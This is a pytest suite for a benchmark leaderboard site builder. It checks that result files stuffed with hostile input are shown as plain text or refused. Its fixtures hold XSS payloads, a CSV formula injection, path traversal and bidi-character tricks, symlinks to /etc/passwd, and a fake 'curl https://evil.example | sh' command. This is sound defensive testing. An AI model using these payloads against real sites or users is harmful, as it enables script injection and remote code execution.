"""A result file is a stranger's: what it says is shown without doing anything, or refused with a line."""

from __future__ import annotations

import contextlib
import csv
import functools
import json
import os
import re
import shutil
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from browser import chromium as chromium
from browser import one_process, opened
from conftest import CHECKOUT
from tasks import small_task
from test_submission import CARD, change, only, put

from loco.evaluation import Options, evaluate_tasks
from loco.results import result_path, run_path
from loco.tasks.data import TaskData, write_task

pytest.importorskip("jinja2", reason="the leaderboard needs jinja2 (pip install 'loco-bench[leaderboard]')")

from loco_leaderboard.build import LocoSite
from loco_leaderboard.serve import serving
from loco_leaderboard.site import NAVIGATION
from loco_leaderboard.texts import pieces, visible

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = """"'></pre></title></script><script>window.taken=1;alert(2)</script><img src=x onerror=alert(3)>"""
MARKUP = (
    """<svg onload="alert(4)"><style>*{background:url(https://evil.example/a)}</style><iframe src=//evil.example>"""
)
TEMPLATE = "{{ 7 * 191 }}{% for x in y %}"
REMOTE = "https://evil.example/page"
TOML = r"""
[[model]]
name = "<script>alert(1)</script> printed"
family = "<b>family</b>"
hub = "../../<script>alert(5)</script>"
description = "<script>alert(1)</script>"

[[model]]
name = "alone\"'><img src=x onerror=alert(3)>"
family = "x"

[[table]]
source = "<script>alert(1)</script> https://evil.example/\"onmouseover=\"alert(6)"
url = "https://evil.example/table"
benchmark = "LoCo<script>alert(1)</script>"
variant = "paper"
tasks = ["qmsum", "gov_report"]
remark = "<img src=x onerror=alert(3)> javascript:alert(7)"

[[table.row]]
model = "<script>alert(1)</script> printed"
strategy = "truncate(512)</script>"
cells = [50.0, 60.0]
average = 99.9
remark = "<iframe src=https://evil.example>"

[[table.row]]
model = "alone\"'><img src=x onerror=alert(3)>"
strategy = "full"
average = 77.7

[times]
source = "x"
url = "https://evil.example/"
setting = "x"
tokens = [1]
row = []

[[mistake]]
source = "<script>alert(1)</script>"
text = "</dd><img src=x onerror=alert(3)> https://evil.example/'onclick='alert(8)"
"""


# What a folder of results holds that is meant to do harm, though every schema allows it.


def hostile_task() -> TaskData:
    queries = {SCRIPT: f"{SCRIPT} budget", "../../q": "javascript:alert(1)", "=cmd|' /C calc'!A0": "when"}
    documents = {BREAKOUT: f"{BREAKOUT} budget \u202e gpj", "d2": f"{MARKUP} {TEMPLATE} next", "d3": "x" * 900}
    qrels = {SCRIPT: {BREAKOUT: 1}, "../../q": {"d2": 1}, "=cmd|' /C calc'!A0": {"d3": 1}}
    return small_task(queries, documents, qrels)


def deface(path: Path) -> None:
    """Fill every text that a measured result may hold with markup."""
    change(
        path,
        {
            "vector_form": f"int8 {SCRIPT}",
            "measurement/command": f"loco eval; curl https://evil.example | sh\n{BREAKOUT}",
            "measurement/data/provenance/builder": SCRIPT,
            "measurement/data/provenance/source": BREAKOUT,
            "measurement/data/provenance/source_revision": MARKUP,
            "measurement/data/provenance/equivalent": f"{MARKUP} {TEMPLATE}",
            "measurement/data/provenance/dropped": {BREAKOUT: 1},
            "measurement/data/provenance/licences": {SCRIPT: 2},
            "measurement/data/provenance/source_sha256": {"../../../etc/passwd": SCRIPT},
            "measurement/phases": {BREAKOUT: {"seconds": 1, "peak_bytes": 10**17}},
            "measurement/together_with": [SCRIPT],
            "measurement/dtype": BREAKOUT,
            "measurement/environment/versions": {SCRIPT: MARKUP},
            "measurement/environment/commit": SCRIPT,
            "measurement/environment/platform": MARKUP,
            "measurement/environment/processor": BREAKOUT,
        },
    )


def needle(folder: Path) -> None:
    source = CHECKOUT / "results/measured/bm25/full/needle/nq-oracle.json"
    fields = json.loads(source.read_text())
    fields["model"]["name"] = SCRIPT
    fields["strategy"] = f"{SCRIPT}full"
    fields["haystacks"]["source"] = BREAKOUT[:200]
    fields["haystacks"]["provenance"]["source"] = MARKUP
    fields["queries"] = [f"{SCRIPT}{number}" for number in range(len(fields["queries"]))]
    fields["command"] = BREAKOUT
    (folder / "needle.json").write_text(json.dumps(fields))


def speed(folder: Path) -> None:
    run = {"seconds": 1.0, "tokenising_seconds": 0.5}
    row = {
        **dict.fromkeys(("tokens", "text_tokens", "text_tokens_seen", "tokens_read", "tokens_computed"), 10),
        **dict.fromkeys(("inputs", "batches"), 1),
        **{"first": run, "runs": [run], "seconds": 1.0, "tokenising_seconds": 0.5, "tokens_per_second": 10.0},
        **{"peak_bytes": 1, "gpu_peak_bytes": None, "problem": "", "command": BREAKOUT},
        "finished_at": "2026-01-01T00:00:00Z",
    }
    bad = {
        **dict.fromkeys(("first", "seconds", "tokenising_seconds", "tokens_per_second")),
        **{"runs": [], "tokens": 20, "problem": f"{SCRIPT} out of memory"},
    }
    named = {"name": SCRIPT, "family": "x", "revision": "1", "description": "", "licence": "", "url": ""}
    environment = {"versions": {SCRIPT: "1"}, "commit": "", "platform": MARKUP, "processor": "x", "cores": 1}
    content = {
        **{"kind": "speed", "schema_version": 1, "model": {**named, "trained_on_loco": None}, "strategy": SCRIPT},
        **{"fingerprint": SCRIPT, "padding": "longest", "device": SCRIPT, "dtype": BREAKOUT[:200], "gpus": [SCRIPT]},
        **{"batch_tokens": 1, "lanes": 1, "threads": None, "environment": {**environment, "memory_bytes": 1}},
        "rows": [row, {**row, **bad}],
    }
    (folder / "speed.json").write_text(json.dumps(content))


def reported(folder: Path, **changed: Any) -> None:
    model = {
        **{"name": f"reported {SCRIPT}", "family": MARKUP, "revision": BREAKOUT, "description": BREAKOUT},
        **{"licence": MARKUP, "url": "//evil.example/x", "trained_on_loco": None, "parameters": {SCRIPT: BREAKOUT}},
    }
    content = {
        **{"schema_version": 1, "origin": "reported", "source": f"{SCRIPT} {REMOTE}, javascript:alert(1) {BREAKOUT}"},
        **{"model": model, "strategy": f"truncate(512) {SCRIPT}", "task": "qmsum", "variant": "paper"},
        **{"split": "test", "metrics": {"ndcg@10": {"value": 0.5}}, **changed},
    }
    name = result_path(content["model"]["name"], content["strategy"], content["variant"], content["task"])
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(json.dumps(content))


@pytest.fixture(scope="module")
def measured(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("measured")
    write_task(hostile_task(), folder / "data")
    where = {"data": folder / "data", "out": folder / "honest"}
    list(evaluate_tasks(CARD, ["qmsum"], "mini", Options(), "loco eval --model ...", **where))
    return folder


@pytest.fixture(scope="module")
def site(measured: Path) -> Path:
    """The site of a folder whose every text is hostile; nothing in it can be refused by its shape."""
    results, honest = measured / "results", only(measured / "honest")
    urls = [
        REMOTE,
        "//evil.example/x",
        "https://user@evil.example/",
        f'https://evil.example/"onclick="{SCRIPT}',
        "/etc",
    ]
    for number, url in enumerate(urls):
        names = [SCRIPT, BREAKOUT, "../../../etc/passwd", "=cmd|' /C calc'!A0", f"{TEMPLATE} &lt;i&gt;"]
        model = {"family": MARKUP[:200], "description": BREAKOUT, "licence": SCRIPT, "revision": SCRIPT}
        parameters = {SCRIPT: BREAKOUT, "prompt": f"{MARKUP}\n{TEMPLATE}"}
        deface(put(honest, results, name=names[number], url=url, parameters=parameters, **model))
    needle(results)
    speed(results)
    reported(results)
    reported(results, variant="imported", task="../../<script>alert(9)</script>")
    reported(results, variant="imported", task="a/../../b\"onclick='x'")
    (results / "paper").mkdir()
    (results / "paper/reported.toml").write_text(TOML)
    built = LocoSite().build(results, measured / "site", measured / "data")
    assert built.refused == ()
    return measured / "site"


class Page(HTMLParser):
    """What could do something in a page, and where it leads."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.harm: list[str] = []
        self.links: list[tuple[str, str, dict[str, str | None]]] = []
        self.ids: list[str] = []
        self.texts: list[str] = []
        self.policies: list[str] = []
        self._inside = ""
        self.feed(path.read_text())
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self._inside = tag if tag in ("script", "style") else ""
        if tag in ("style", "iframe", "frame", "object", "embed", "base", "applet", "portal", "math"):
            self.harm.append(f"<{tag}>")
        if tag == "script" and not given.get("src"):
            self.harm.append("a script inside the page")
        if given.get("http-equiv") == "Content-Security-Policy":
            self.policies.append(given["content"] or "")
        if tag == "form" and "action" in given:
            self.harm.append("a form that is sent")
        if tag == "meta" and (given.get("http-equiv") or "").lower() not in ("", "content-security-policy"):
            self.harm.append(f"<meta {given}>")
        if len(given) != len(attrs):
            self.harm.append(f"an attribute twice in <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "srcset", "ping", "formaction", "background"):
                self.harm.append(f"{name}={value}")
            if name in ("href", "src", "xlink:href", "action", "data", "poster"):
                self.links.append((tag, value or "", given))
        if "id" in given:
            self.ids.append(given["id"] or "")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.harm.append(f"{self._inside}: {data}")
        self.texts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)


@functools.cache
def page(path: Path) -> Page:
    return Page(path)


def html(site: Path) -> list[Path]:
    found = sorted(site.rglob("*.html"))
    assert len(found) > len(NAVIGATION)
    return found


def test_nothing_in_any_page_can_run_or_load(site: Path) -> None:
    assert {path.relative_to(site).as_posix(): page(path).harm for path in html(site) if page(path).harm} == {}


def test_every_page_says_that_nothing_but_its_own_files_may_load(site: Path) -> None:
    for path in html(site):
        (policy,) = page(path).policies
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "http" not in policy
        assert "*" not in policy
        before, _, _ = path.read_text().partition("Content-Security-Policy")
        assert "<script" not in before
        assert "<link" not in before


def test_every_address_leads_to_a_file_of_the_site_or_to_a_page_elsewhere(site: Path) -> None:
    root, lost, seen = site.resolve(), [], 0
    for path in html(site):
        for tag, address, given in page(path).links:
            seen += 1
            parts = urlsplit(address)
            if tag == "link" and address == "data:,":
                continue  # no picture for the tab, so that none is asked for
            if parts.scheme or parts.netloc:
                named = set((given.get("rel") or "").split())
                outside = (
                    tag == "a" and parts.scheme in ("http", "https") and parts.hostname and "@" not in parts.netloc
                )
                if not outside or not named >= {"noopener", "noreferrer", "nofollow"}:
                    lost.append((path.name, address))
                continue
            there = (path.parent / unquote(parts.path)).resolve() if parts.path else path
            if (
                not there.is_relative_to(root)
                or not there.is_file()
                or (parts.fragment and there.suffix == ".html" and unquote(parts.fragment) not in page(there).ids)
            ):
                lost.append((path.name, address))
    assert lost == []
    assert seen > 500


def test_no_id_stands_twice_in_a_page(site: Path) -> None:
    for path in html(site):
        assert len(set(page(path).ids)) == len(page(path).ids), path


def test_what_was_meant_to_do_harm_is_shown_as_it_was_written(site: Path) -> None:
    model = "".join(page(path).text for path in (site / "models").glob("*.html"))
    for text in (SCRIPT, BREAKOUT, MARKUP, TEMPLATE, "../../../etc/passwd", "https://user@evil.example/"):
        assert text in model
    assert "1337" not in model
    task = page(site / "tasks/qmsum.html").text
    assert BREAKOUT in task
    assert "⟨U+202E⟩" in task
    method = page(site / "method.html").text
    assert "</dd><img src=x onerror=alert(3)>" in method
    index = page(site / "index.html").text
    assert SCRIPT in index
    assert BREAKOUT in index


def test_only_plain_addresses_of_pages_become_links(site: Path) -> None:
    outside = {
        address
        for path in html(site)
        for tag, address, _ in page(path).links
        if tag == "a" and "evil" in (urlsplit(address).hostname or "")
    }
    allowed = {
        REMOTE,
        "https://evil.example/",
        "https://evil.example/table",
        "https://evil.example/a",
        "https://evil.example",
    }
    assert REMOTE in outside
    assert outside <= allowed


def test_every_file_has_a_plain_name_inside_the_site(site: Path) -> None:
    for path in site.rglob("*"):
        assert not path.is_symlink()
        name = path.relative_to(site).as_posix()
        assert re.fullmatch(r"[A-Za-z0-9_./-]+", name), name
        assert ".." not in path.relative_to(site).parts
    assert sorted(path.name for path in site.parent.iterdir() if path.name != "data") == ["honest", "results", "site"]


def test_data_for_scripts_is_data(site: Path) -> None:
    found = sorted((site / "data").rglob("*.js"))
    assert found
    for path in found:
        content = path.read_text()
        call = re.fullmatch(r"loco\.\w+\((.*)\);?\n?", content, re.DOTALL)
        assert call, path
        json.loads(f"[{call[1]}]", parse_constant=no_constant)
        assert not re.search(r"[<>\u2028\u2029]", content)


def no_constant(name: str) -> None:
    raise AssertionError(name)


def test_downloads_are_strict_json_and_no_formulas(site: Path) -> None:
    board = json.loads((site / "data/board.json").read_text(), parse_constant=no_constant)
    assert SCRIPT in {entry["model"] for entry in board["entries"]}
    with (site / "data/board.csv").open(newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert any(cell.endswith("=cmd|' /C calc'!A0") for cell in cells)
    assert [cell for cell in cells if cell[:1] in set("=+-@\t\r")] == []


# What is refused, each with a line, while the rest of the folder is built.


LARGE = 50_000_000

REFUSED: dict[str, tuple[Callable[[Path], object], str]] = {
    "nan": (lambda path: change(path, {"metrics/ndcg@10/value": float("nan")}), "finite number"),
    "infinite": (lambda path: change(path, {"measurement/seconds": float("inf")}), "finite number"),
    "nan-parameter": (lambda path: change(path, {"model/parameters": {"k1": float("nan")}}), "nan, which is no number"),
    "too-large-a-number": (lambda path: change(path, {"measurement/environment/cores": 10**400}), "larger than"),
    "above-one": (lambda path: change(path, {"metrics/ndcg@10/value": 1.5}), "less than or equal to 1"),
    "null-in-name": (lambda path: change(path, {"model/name": "a\0b"}), "String should match pattern"),
    "null-in-description": (lambda path: change(path, {"model/description": "a\0b"}), "U+0000"),
    "bidi": (lambda path: change(path, {"model/licence": "MIT\u202eTIM"}), "U+202E"),
    "isolate-in-strategy": (lambda path: change(path, {"strategy": "full\u2066x"}), "U+2066"),
    "zero-width-in-name": (lambda path: change(path, {"model/name": "bm\u200b25"}), "U+200B"),
    "tag-characters": (lambda path: change(path, {"model/family": "x\U000e0041"}), "U+E0041"),
    "bidi-in-query": (lambda path: path.write_text(path.read_text().replace("../../q", "q\\u202e")), "U+202E"),
    "script-address": (lambda path: change(path, {"model/url": "javascript:alert(1)"}), "runs or hides"),
    "script-address-2": (lambda path: change(path, {"model/url": " JaVaScRiPt:alert(1)"}), "runs or hides"),
    "data-address": (
        lambda path: change(path, {"model/url": "data:text/html,<script>alert(1)</script>"}),
        "runs or hides",
    ),
    "lone-surrogate": (lambda path: path.write_text(path.read_text().replace("org/back", "\\ud800")), "surrogate"),
    "deep": (lambda path: path.write_text('{"a":' * 50_000), ""),
    "deep-list": (lambda path: path.write_text("[" * 100_000), ""),
    "deep-field": (lambda path: change(path, {"model/parameters": json.loads("[" * 400 + "]" * 400)}), ""),
    "empty": (lambda path: path.write_text(""), ""),
    "null-byte": (lambda path: path.write_text("\0"), ""),
    "no-text": (lambda path: path.write_bytes(b'{"kind": "\xff"}'), ""),
    "large": (lambda path: os.truncate(path, LARGE), "larger than"),
    "no-run": (lambda path: run_path(path).unlink(), "run"),
    "other-run": (lambda path: run_path(path).write_bytes(b"x"), "not the run"),
}


@pytest.fixture(scope="module")
def refused(measured: Path) -> tuple[Path, list[str]]:
    """A site of good results among bad ones, and the lines about these."""
    results, honest = measured / "mixed", only(measured / "honest")
    shutil.copytree(measured / "honest", results)
    for name, (spoil, _) in REFUSED.items():
        folder = results / name
        folder.mkdir()
        shutil.copy(honest, folder / f"{name}.json")
        shutil.copy(run_path(honest), folder / f"{name}.run.gz")
        spoil(folder / f"{name}.json")
    masks = {"looks-cyrillic": "org/b\u0430ckwards", "looks-latin": "0rg/backwards"}
    for name, called in masks.items():
        (results / name).mkdir()
        put(honest, results / name, name=called)
    for name in (
        "a b.json",
        "<b>.json",
        "x\u202egpj.json",
        "con.json",
        "-rf.json",
        "a&amp;.json",
        "'.json",
        '"x".json',
    ):
        shutil.copy(honest, results / name)
    (results / "link.json").symlink_to("/etc/passwd")
    (results / "up").symlink_to("..")
    (results / "loop").symlink_to("loop")
    (results / "deep").joinpath(*["d"] * 12).mkdir(parents=True)
    shutil.copy(honest, (results / "deep").joinpath(*["d"] * 12) / "x.json")
    built = LocoSite().build(results, measured / "mixed-site", None)
    return measured / "mixed-site", list(built.refused)


def test_each_bad_file_is_refused_with_one_line(refused: tuple[Path, list[str]]) -> None:
    _, lines = refused
    for name, (_, complaint) in REFUSED.items():
        (line,) = (line for line in lines if line.startswith(f"{name}/{name}.json"))
        assert complaint in line, name
        assert "\n" not in line
        assert len(line) < 500


def test_a_name_that_looks_like_a_plain_one_is_not_on_the_board(refused: tuple[Path, list[str]]) -> None:
    _, lines = refused
    (line,) = [line for line in lines if line.startswith("looks-cyrillic/")]
    assert "looks like 'org/backwards'" in line


def test_of_two_plain_names_that_look_alike_each_has_a_page_of_its_own(refused: tuple[Path, list[str]]) -> None:
    site, _ = refused
    assert {path.stem for path in (site / "models").iterdir()} == {"org-backwards", "0rg-backwards"}


@pytest.mark.parametrize(
    "name", ["a b.json", "<b>.json", "con.json", "-rf.json", '"x".json', "link.json", "up", "loop"]
)
def test_odd_names_and_links_are_not_followed(refused: tuple[Path, list[str]], name: str) -> None:
    _, lines = refused
    assert [line for line in lines if line.startswith(f"{name}: ")]


def test_what_is_refused_stands_on_the_page_of_the_method_and_nowhere_else(refused: tuple[Path, list[str]]) -> None:
    site, lines = refused
    method = page(site / "method.html").text
    for line in lines:
        assert visible(line, 600) in method
    for path in html(site):
        assert page(path).harm == [], path
        assert not re.search("[\0\u202e\u2066\u200b\U000e0041\u0430]", path.read_text()), path
    copies = [path.relative_to(site / "results").as_posix() for path in sorted((site / "results").rglob("*.*"))]
    folders = {copy.partition("/")[0] for copy in copies}
    assert (len(copies), folders) == (4, {"org__backwards", "looks-latin"})
    board = json.loads((site / "data/board.json").read_text())
    assert sorted(entry["model"] for entry in board["entries"]) == ["0rg/backwards", "org/backwards"]


SENSELESS = (
    "x = " + "[" * 5_000 + "]" * 5_000,
    "not toml",
    "\0",
    TOML.replace("[50.0, 60.0]", "[nan, 60.0]"),
    TOML.replace("average = 99.9", "average = inf"),
    TOML.replace("https://evil.example/table", "javascript:alert(1)"),
    TOML.replace("<b>family</b>", "\\u202e"),
    TOML + "#" * 1_000_001,
    TOML.replace('model = "alone', 'model = "unheard of'),
    TOML.replace('family = "x"', 'family = "x"\nweights = 0'),
    TOML.replace('family = "x"', f'family = "{"x" * 201}"'),
    TOML.replace('strategy = "full"', 'strategy = "full"\nwindow = -1'),
)


def test_reported_figures_that_make_no_sense_are_refused_with_one_line(measured: Path, tmp_path: Path) -> None:
    shutil.copytree(measured / "honest", tmp_path / "results")
    for number, content in enumerate(SENSELESS):
        (tmp_path / f"results/t{number}").mkdir()
        (tmp_path / f"results/t{number}/reported.toml").write_text(content)
    (tmp_path / "results/linked").mkdir()
    (tmp_path / "good.toml").write_text(TOML)
    (tmp_path / "results/linked/reported.toml").symlink_to(tmp_path / "good.toml")
    (tmp_path / "elsewhere").mkdir()
    shutil.copy(tmp_path / "good.toml", tmp_path / "elsewhere/reported.toml")
    (tmp_path / "results/away").symlink_to(tmp_path / "elsewhere")
    built = LocoSite().build(tmp_path / "results", tmp_path / "site", None)
    for number in range(len(SENSELESS)):
        (line,) = [line for line in built.refused if line.startswith(f"t{number}/reported.toml: ")]
        assert "\n" not in line
        assert len(line) < 300
    assert [line for line in built.refused if line.startswith("linked/reported.toml: ")]
    assert [line for line in built.refused if line.startswith("away/reported.toml: ")]
    assert built.rows == 1
    assert page(tmp_path / "site/method.html").harm == []
    assert "evil" not in page(tmp_path / "site/method.html").text


@pytest.mark.parametrize(
    "text",
    [
        "javascript:alert(1)",
        "see data:text/html,x",
        "http://",
        "https://user:password@example.org",
        "https://ex\u0430mple.org",
        "ftp://example.org",
        "HTTPS//example.org",
    ],
)
def test_a_text_without_a_plain_address_has_no_link(text: str) -> None:
    assert [piece.link for piece in pieces(text) if piece.link] == []
    assert "".join(piece.text for piece in pieces(text)) == visible(text)


def test_an_address_in_a_text_ends_where_the_text_goes_on() -> None:
    found = pieces('a (https://example.org/x), "https://example.org/y"onclick="z" b')
    assert [piece.link for piece in found if piece.link] == ["https://example.org/x", "https://example.org/y"]


def test_half_an_address_is_no_link_and_what_is_cut_is_told() -> None:
    found = pieces("x" * 1980 + " https://example.org/a/long/way and more")
    assert [piece.link for piece in found if piece.link] == []
    assert "".join(piece.text for piece in found) == "x" * 1980 + "… (40 more characters)"
    assert pieces("y" * 2500)[0].text == visible("y" * 2500)


# The same in a browser.


@one_process
@pytest.mark.parametrize("scheme", ["file", "http"])
def test_in_a_browser_no_page_runs_or_asks_for_anything(site: Path, chromium: Any, scheme: str) -> None:
    with contextlib.ExitStack() as stack:
        root = stack.enter_context(serving(site, 0)) if scheme == "http" else f"{site.as_uri()}/"
        page, watched = stack.enter_context(opened(chromium, f"{root}index.html"))
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        marks = page.evaluate("Object.keys(window)")
        visited = [path for path in html(site) if "evil" in path.read_text() or SCRIPT[1:-1] in path.read_text()]
        assert len(visited) > 8
        for path in visited if scheme == "file" else visited[:3]:
            page.goto(root + path.relative_to(site).as_posix())
            page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
            page.mouse.move(300, 300)
            assert page.evaluate("window.taken") is None
            assert page.evaluate("Array.from(document.scripts, one => one.getAttribute('src'))") == [
                f"{'../' * (len(path.relative_to(site).parts) - 1)}assets/{name}.js" for name in ("theme", "board")
            ]
            assert set(page.evaluate("Object.keys(window)")) - set(marks) <= {"loco"}
        entries = [path.stem for path in sorted((site / "data/entries").glob("*.js"))]
        page.goto(f"{root}compare.html?rows={','.join(entries[:4])}")
        page.wait_for_load_state("networkidle")
        for query in (
            "rows=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
            "rows=../../x,../x",
            "rows=__proto__,constructor",
        ):
            page.goto(f"{root}compare.html?{query}")
            page.goto(f"{root}index.html?{query}&variant={SCRIPT}&sort=__proto__&search=%3Cimg%20src=x%3E#{SCRIPT}")
            assert page.evaluate("window.taken") is None
        page.wait_for_load_state("networkidle")
        assert dialogs == []
        assert watched.strange(root) == []
        assert [said for said in watched.problems if "Content Security Policy" in said or "evil" in said] == []
